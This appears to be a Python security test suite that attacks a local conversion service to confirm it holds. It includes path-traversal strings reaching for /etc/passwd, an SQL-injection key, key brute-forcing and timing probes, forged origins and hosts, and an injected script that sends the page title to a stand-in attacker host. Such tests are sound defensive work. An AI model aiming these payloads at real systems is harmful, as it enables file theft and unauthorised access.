# Attacks on who may see what: paths that leave their folder, guessed and foreign keys, made-up previews, pages of other
# sites, names that resolve here, and generated code that reaches for the service from inside its preview (a real
# Chromium, through Playwright). Key attacks run against a second server on which a key is required.

import http.client
import json
import re
import statistics
import time
from pathlib import Path

import attacks_folders
from attacks_report import Canary, Report, exchange, head
from service import SIGN_IN, Client, Service, TrialError

# Paths


def climbing_paths(report: Report, conversion: dict) -> None:
    service, group = report.service, "paths"
    place = f"/v1/conversions/{conversion['id']}"
    preview = conversion["preview_url"].rsplit("/", 1)[0]
    climbs = [
        "../../../../../../etc/passwd",
        "..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
        "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "..%5c..%5c..%5cetc%5cpasswd",
        "..\\..\\..\\etc\\passwd",
        "index.html%00.png",
        "index.html/../../../bottega.sqlite",
        "/etc/passwd",
        "%2fetc%2fpasswd",
        "//etc/passwd",
        "....//....//etc/passwd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "..;/..;/etc/passwd",
        ".",
        "..",
        "../1-1/index.html",
        "../../../bottega.sqlite",
        "../../../../data/lock",
        "file:///etc/passwd",
        "~/.bashrc",
    ]
    own = {entry["text"].encode() for entry in conversion["files"] if "text" in entry}
    for base in (f"{place}/files/", f"{place}/designs/", f"{preview}/", "/assets/", "/docs/", "/"):
        through, found = [], {}
        for climb in climbs:
            answer = exchange(service, head(service, f"GET {base}{climb} HTTP/1.1", "Connection: close")).first
            found[answer.status] = found.get(answer.status, 0) + 1
            leaked = b"root:" in answer.body or b"SQLite format" in answer.body
            served = answer.status == 200 and answer.body not in own and base != "/" and answer.body[:1] != b"{"
            if leaked or served or answer.status >= 500 or answer.status == 0:
                through.append(f"{climb}: {answer}")
        shown = base.replace(conversion["id"], "ID").replace(preview, "/preview/TOKEN")
        observed = "; ".join(through[:3]) or ", ".join(f"{n} × {status}" for status, n in sorted(found.items()))
        report.fact(group, f"{len(climbs)} climbs from {shown}", "4xx; no byte from outside", observed, not through)
    made_up_previews(report, conversion)
    report.alive(group)


def made_up_previews(report: Report, conversion: dict) -> None:
    client, group = report.service.client(), "preview addresses"
    _, _, token, path = conversion["preview_url"].split("/", 3)
    middle = len(token) // 2
    flipped = token[:middle] + ("A" if token[middle] != "A" else "B") + token[middle + 1 :]
    for what, made_up in [
        ("one character changed", flipped),
        ("the last 4 characters cut off", token[:-4]),
        ("its last character changed", token[:-1] + ("A" if token[-1] not in "ABCD" else "Q")),
        ("nothing", ""),
        ("a made-up one", "AAAA"),
        ("twice", token + token),
        ("100 kB", "A" * 50_000),
    ]:
        try:
            answer = client.get(f"/preview/{made_up}/{path}")
        except OSError:
            continue
        report.answer(group, f"token: {what}", "401, 403, 404, 400, 414, 431", answer)


# Keys


def keys(report: Report, binary) -> None:
    with Service(binary, {"requests_per_minute": 1_000_000, "active_jobs": 1000}) as service:
        first, second, revoked = (service.create_key(name) for name in ("first", "second", "revoked"))
        service.command("keys", "revoke", revoked.split("_")[1], "--data", str(service.data))
        service.start()
        own = Report(service)
        guessed_keys(own, first, revoked)
        timing(own, first)
        foreign_keys(own, first, second)
        attacks_folders.foreign_folders(own, first, second)
        log = service.log_path.read_text(errors="replace")
        told = [secret for secret in (first, second, revoked) if secret in log or secret.split("_", 2)[2] in log]
        own.fact("keys", "after all of this: the log", "no secret in it", f"{len(told)} secrets", not told)
        report.rows += own.rows
        report.passed_through += own.passed_through


def guessed_keys(report: Report, key: str, revoked: str) -> None:
    service, group = report.service, "keys"
    identifier = key.split("_")[1]
    secret = key.split("_", 2)[2]
    for what, value in [
        ("no key", None),
        ("an empty one", "Bearer "),
        ("the scheme alone", "Bearer"),
        ("another scheme", f"Basic {key}"),
        ("a revoked one", f"Bearer {revoked}"),
        ("an id alone", f"Bearer bk_{identifier}"),
        ("an id and no secret", f"Bearer bk_{identifier}_"),
        ("all but the last character", f"Bearer {key[:-1]}"),
        ("one character more", f"Bearer {key}A"),
        ("the secret under another id", f"Bearer bk_local_{secret}"),
        ("SQL for an id", f"Bearer bk_' OR '1'='1_{secret}"),
        ("a pattern for an id", f"Bearer bk_%_{secret}"),
        ("capitals", f"Bearer {key.upper()}"),
        ("two keys", f"Bearer {key}, Bearer {key}"),
        ("16 kB", "Bearer bk_" + "a" * 15_000),
    ]:
        headers = {"Authorization": value} if value is not None else {}
        answer = service.client()("GET", "/v1/conversions", headers=headers)
        report.answer(group, f"Authorization: {what}", "401 unauthorized, 429 rate_limited, 431, 400", answer)
    statuses: dict[str, int] = {}
    for number in range(300):
        guess = f"bk_{identifier}_{number:043}"
        answer = service.client(guess).get("/v1/conversions")
        statuses[str(answer)] = statuses.get(str(answer), 0) + 1
        if answer.status == 401 and answer.header("WWW-Authenticate") is None:
            statuses["401 without WWW-Authenticate"] = 1
    held = set(statuses) <= {"401 unauthorized", "429 rate_limited"}
    report.fact(group, "300 wrong secrets of a known id", "401 (or 429) each", statuses, held)
    answer = service.client(key).get("/v1/conversions")
    report.answer(group, "the right key right afterwards (its owner is not locked out)", "200", answer)
    for path in (f"/v1/conversions?key={key}", f"/v1/conversions?access_token={key}"):
        report.answer(group, "the right key in the address", "401 unauthorized", service.client().get(path))
    for method, path in [
        ("POST", "/v1/convert"),
        ("GET", "/v1/jobs"),
        ("GET", "/v1/stacks"),
        ("GET", "/v1/usage"),
        ("GET", "/v1/engine"),
        ("GET", "/metrics"),
        ("DELETE", "/v1/jobs/x"),
        ("GET", "/v1/../v1/jobs"),
        ("GET", "//v1/jobs"),
        ("GET", "/V1/jobs"),
        ("GET", "/v1/jobs/"),
        ("GET", "/healthz/../v1/jobs"),
    ]:
        answer = service.client()(method, path)
        report.answer(group, f"{method} {path} without a key", "401 unauthorized, 404 not_found, 400", answer)


def timing(report: Report, key: str) -> None:
    """Whether the time of a 401 tells that an id exists. Compares medians of interleaved requests with their spread."""
    known, unknown = f"bk_{key.split('_')[1]}_{'A' * 43}", f"bk_{'z' * len(key.split('_')[1])}_{'A' * 43}"
    connection = http.client.HTTPConnection("127.0.0.1", report.service.port, timeout=10)
    times: dict[str, list[float]] = {known: [], unknown: []}
    for number in range(1600):
        guess = (known, unknown)[
            (number ^ (number >> 1)) & 1
        ]  # known, unknown, unknown, known, …: drift hits both alike
        began = time.perf_counter()
        connection.request("GET", "/v1/conversions", headers={"Authorization": f"Bearer {guess}"})
        connection.getresponse().read()
        times[guess].append((time.perf_counter() - began) * 1e6)
    connection.close()
    medians = {guess: statistics.median(found) for guess, found in times.items()}
    errors = []
    for guess, found in times.items():
        spread = statistics.median(abs(value - medians[guess]) for value in found) * 1.4826
        errors.append(1.2533 * spread / len(found) ** 0.5)
    difference = medians[known] - medians[unknown]
    noise = max(4 * (errors[0] ** 2 + errors[1] ** 2) ** 0.5, 20)
    observed = f"{medians[known]:.0f} µs and {medians[unknown]:.0f} µs: {difference:+.1f} µs"
    report.fact(
        "keys",
        "time of a wrong secret under a known and an unknown id, 800 each",
        f"difference within noise (±{noise:.0f} µs)",
        observed,
        abs(difference) <= noise,
    )


def foreign_keys(report: Report, first: str, second: str) -> None:
    group, owner, other = "another key", report.service.client(first), report.service.client(second)
    wait = {"Prefer": "wait=60", "Idempotency-Key": "shared"}
    mine = owner.convert([SIGN_IN], wait)
    if mine.status != 200:
        raise TrialError(f"converting sign-in.png under a key answered {mine}, expected 200")
    place, job = f"/v1/conversions/{mine.json['id']}", mine.json["job"]["url"]
    file, archive = mine.json["files"][0]["url"], mine.json["archive_url"]
    for method, path in [
        ("GET", place),
        ("GET", file),
        ("GET", archive),
        ("GET", f"{place}/files"),
        ("GET", f"{place}/report"),
        ("GET", f"{place}/designs/0"),
        ("GET", f"{place}/revisions"),
        ("GET", f"{place}/events"),
        ("GET", job),
        ("DELETE", job),
        ("DELETE", place),
    ]:
        what = f"{method} {path}".replace(mine.json["id"], "ID").replace(job.rsplit("/", 1)[1], "JOB")
        report.answer(group, what, "404 not_found", other(method, path))
    edit = {"operations": [{"selector": "body", "remove": True}]}
    report.answer(group, "POST an edit", "404 not_found", other.post_json(f"{place}/edits", edit))
    report.answer(
        group,
        "POST an edit to a job's events of another conversion",
        "404 not_found, 400",
        other.get(f"{place}/events?job={mine.json['job']['id']}"),
    )
    again = other.convert([SIGN_IN], wait)
    held = again.status == 200 and again.json["id"] != mine.json["id"]
    report.fact(group, "the same Idempotency-Key", "a conversion of its own", again, held)
    listed = [conversion["id"] for conversion in other.every("/v1/conversions")]
    report.fact(group, "the list", "without the owner's", f"{len(listed)} listed", mine.json["id"] not in listed)
    report.answer(group, "afterwards, for its owner", "200", owner.get(place))


# Other sites


def other_sites(report: Report, conversion: str) -> None:
    service, group = report.service, "other sites"
    own, place = f"127.0.0.1:{service.port}", f"/v1/conversions/{conversion}"
    body = json.dumps({"images": []})
    origins = [
        "https://evil.example",
        "null",
        f"http://127.0.0.1:{service.port + 1}",
        f"http://{own}.evil.example",
        f"http://evil.example:{service.port}",
        "http://evil@" + own,
        "file://",
        "chrome-extension://abc",
    ]
    attempts = [(f"Origin: {origin}", [f"Origin: {origin}"], None) for origin in origins]
    attempts += [("Sec-Fetch-Site: cross-site", ["Sec-Fetch-Site: cross-site"], None)]
    hosts = [
        "evil.example",
        f"evil.example:{service.port}",
        f"{own}.evil.example",
        "127.0.0.1.nip.io",
        "localhost.evil.example",
        "evil.example@127.0.0.1",
        "0x7f000001.evil.example",
        "[::1].evil.example",
    ]
    attempts += [(f"Host: {host}", [], host) for host in hosts]
    for what, headers, host in attempts:
        expected = "403 host_forbidden, 400" if host else "403 origin_forbidden"
        for method, path in [("GET", place), ("POST", "/v1/convert"), ("DELETE", place)]:
            sent = ["Connection: close", *headers]
            content = b""
            if method == "POST":
                content = body.encode()
                sent += ["Content-Type: application/json", f"Content-Length: {len(content)}"]
            answer = exchange(service, head(service, f"{method} {path} HTTP/1.1", *sent, host=host) + content).first
            report.answer(group, f"{method} with {what}", expected, answer)
            allowed = answer.header("Access-Control-Allow-Origin")
            if allowed is not None:
                report.fact(group, f"{method} with {what}", "no Access-Control-Allow-Origin", allowed, False)
    preflight = head(
        service,
        "OPTIONS /v1/convert HTTP/1.1",
        "Origin: https://evil.example",
        "Connection: close",
        "Access-Control-Request-Method: POST",
        "Access-Control-Request-Headers: content-type",
    )
    answer = exchange(service, preflight).first
    held = answer.status in (403, 405) and answer.header("Access-Control-Allow-Origin") is None
    report.fact(group, "a preflight", "403 or 405, and no Access-Control-Allow-Origin", answer, held)
    report.answer(group, "afterwards, the conversion", "200", service.client().get(place))
    report.alive(group)


# Generated code

LISTENER = """() => new Promise(done => {
  let last = {};
  addEventListener('message', event => {
    if (event.data && event.data.trial) last = event.data.trial;
    if (last.end) done(last);
  });
  setTimeout(() => done(last), 15000);
})"""


SCRIPT = Path(__file__).with_name("attacks_preview.js")


def generated_code(report: Report, conversion: dict, canary: Canary, browser_path: str) -> None:
    """Puts the script into a converted page, shows its preview in a frame of the service's own page, and listens."""
    from playwright.sync_api import sync_playwright

    service, group = report.service, "preview code"
    client = service.client()
    url = edited_preview(
        client,
        conversion,
        SCRIPT.read_text().replace("CANARY", str(canary.port)).replace("CONVERSION", conversion["id"]),
    )
    own = f"http://127.0.0.1:{service.port}"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=browser_path, args=["--no-sandbox"])
        page = browser.new_page()
        calls: list[str] = []
        page.goto(own + "/")
        page.evaluate(f"void (window.heard = ({LISTENER})())")
        service_calls_before = len(client.every("/v1/conversions"))

        def heard(answer) -> None:
            if "/v1/" in answer.url and answer.ok and answer.frame != page.main_frame:
                calls.append(answer.url)

        page.on("response", heard)
        page.evaluate(
            "url => document.body.appendChild(Object.assign(document.createElement('iframe'), "
            "{src: url, sandbox: 'allow-scripts'}))",
            url,
        )
        told = page.evaluate("window.heard")
        page.wait_for_timeout(500)
        ran = told.pop("ran", None) == "true" and told.pop("end", None) == "true"
        report.fact(group, "the script itself", "runs to its end (else this proves nothing)", f"ran {ran}", ran)
        for name in re.findall(r"attempt\('([^']+)'", SCRIPT.read_text()):
            got = told.get(name, "false")  # what never came back got nothing either
            report.fact(group, name, "refused", "refused" if got == "false" else f"got {got}", got == "false")
        stayed = page.url.startswith(own)
        report.fact(group, "the page around it", "stays where it is", page.url.replace(own, ""), stayed)
        report.fact(group, "answers of /v1 inside the frame", "none", calls or "none", not calls)
        report.fact(group, "requests to the attacker", "none", canary.calls or "none", not canary.calls)
        same = service_calls_before == len(client.every("/v1/conversions"))
        report.fact(group, "the conversions", "as before", "as before" if same else "changed", same)
        served_pages(report, browser, conversion, canary)
        navigating_frame(report, browser, client, conversion, canary)
        browser.close()
    report.alive(group)


def edited_preview(client: Client, conversion: dict, script: str) -> str:
    """The preview of a new revision whose page is a heading and `script`."""
    operation = {"selector": "body", "set_html": f"<h1>Preview</h1><script>{script}</script>"}
    answer = client.post_json(
        f"/v1/conversions/{conversion['id']}/edits", {"operations": [operation]}, {"Prefer": "wait=60"}
    )
    if answer.status != 200:
        raise TrialError(f"the edit that puts a script into the page answered {answer}: {answer.body[:300]!r}")
    return answer.json["preview_url"]


def served_pages(report: Report, browser, conversion: dict, canary: Canary) -> None:
    """The same page opened by itself: as a file, and as a browser asks for a conversion. No script may run at all."""
    own, group = f"http://127.0.0.1:{report.service.port}", "preview code"
    place = f"/v1/conversions/{conversion['id']}"
    for what, path in [
        ("the file opened by itself", f"{place}/files/index.html"),
        ("the conversion opened by a browser", place),
    ]:
        page = browser.new_page()
        said: list[str] = []
        page.on("console", lambda message: said.append(message.text))
        answer = page.goto(own + path, wait_until="load")
        policy = answer.headers.get("content-security-policy", "")
        blocked = any("Blocked script execution" in text or "violates" in text for text in said)
        is_page = answer.headers.get("content-type", "").startswith("text/html")
        held = not is_page or ("sandbox" in policy and "allow-scripts" not in policy and blocked)
        report.fact(group, what, "sandbox without scripts", f"{answer.status}, {policy[:60] or 'no policy'}", held)
        page.close()
    framed = browser.new_page()
    framed.goto(f"http://127.0.0.1:{canary.port}/")
    canary.calls.clear()
    preview = own + conversion["preview_url"]
    framed.evaluate(
        "url => document.body.appendChild(Object.assign(document.createElement('iframe'), {src: url}))", preview
    )
    framed.wait_for_timeout(500)
    inside = [frame.url for frame in framed.frames[1:] if frame.url.startswith(own)]
    report.fact(group, "the preview in a frame of another site", "not shown", inside or "not shown", not inside)
    framed.close()


def navigating_frame(report: Report, browser, client: Client, conversion: dict, canary: Canary) -> None:
    """A frame may always go elsewhere itself; the page around it has to stop that."""
    own = f"http://127.0.0.1:{report.service.port}"
    canary.calls.clear()
    url = edited_preview(
        client, conversion, f"location.href = 'http://127.0.0.1:{canary.port}/leave?' + document.title"
    )
    page = browser.new_page()
    page.goto(own + "/")
    page.evaluate(
        "url => document.body.appendChild(Object.assign(document.createElement('iframe'), {src: url, "
        "sandbox: 'allow-scripts'}))",
        url,
    )
    page.wait_for_timeout(1500)
    observed = canary.calls or "none"
    report.fact("preview code", "the frame leaves for the attacker's site", "no request", observed, not canary.calls)
    page.close()
